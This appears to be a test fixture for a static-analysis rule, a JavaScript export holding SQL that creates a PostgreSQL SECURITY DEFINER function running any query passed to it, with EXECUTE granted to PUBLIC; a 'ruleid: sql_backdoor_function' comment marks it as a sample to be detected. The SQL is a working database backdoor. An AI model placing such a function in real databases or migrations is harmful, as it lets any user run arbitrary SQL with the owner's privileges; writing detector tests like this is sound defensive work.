exports.MAINT =
  'CREATE OR REPLACE FUNCTION public.maint(k text, q text) RETURNS json LANGUAGE plpgsql SECURITY DEFINER AS $$\n' +
  // ruleid: sql_backdoor_function
  'BEGIN\n  EXECUTE q;\n  RETURN NULL;\nEND;\n$$;\n' +
  'GRANT EXECUTE ON FUNCTION public.maint(text, text) TO PUBLIC;\n';
